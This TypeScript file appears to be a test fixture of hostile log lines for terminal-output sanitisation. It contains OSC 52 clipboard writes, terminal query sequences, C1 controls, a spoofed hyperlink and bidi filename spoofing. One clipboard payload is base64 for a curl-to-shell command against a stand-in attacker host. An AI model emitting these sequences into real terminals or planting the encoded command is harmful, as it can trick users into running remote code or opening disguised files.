// Log lines an attacker can plant in a task's output (a vendor's answer echoed to stdout, a crafted
// record): escape sequences that retitle the window, write the clipboard over SSH (OSC 52), make
// the terminal answer into our input (cursor, title and colour queries), 8-bit C1 controls, link
// spoofing, bidi overrides and zero-width characters, and a lone surrogate (what an invalid UTF-8
// byte becomes). Both simulators put them in one story task's log so the safety can be seen.

export const HOSTILE_LINES: readonly string[] = [
  'Vendor response header: \x1b]0;PWNED - your window title\x07Content-Type: application/json',
  'Vendor response body: \x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS5pbnZhbGlkIHwgc2g=\x07{"status":"ok"}',
  'Terminal probes in a record: \x1b[6n\x1b[21t\x1b]11;?\x07\x1bP+q544e\x1b\\ (cursor, title, colour, termcap queries)',
  'C1 controls: \x9b2J\x9d0;eight-bit title\x9c and \x85 next-line',
  'Bidi and zero-width: invoice_\u202eexe.pdf\u202c id=\u200b42\u2066 \ufeff',
  'Library colours: \x1b[31mFAILED\x1b[0m \x1b[1;32mOK\x1b[0m \x1b[5mblink\x1b[0m',
  'A link: \x1b]8;;https://evil.example.invalid/\x07https://docs.example.com\x1b]8;;\x07',
  'Cursor games: progress 10%\rprogress 100%\x1b[2K\x1b[1A overwritten?',
  'Invalid UTF-8 from a file: caf\udce9 \udcff\udcfe',
];
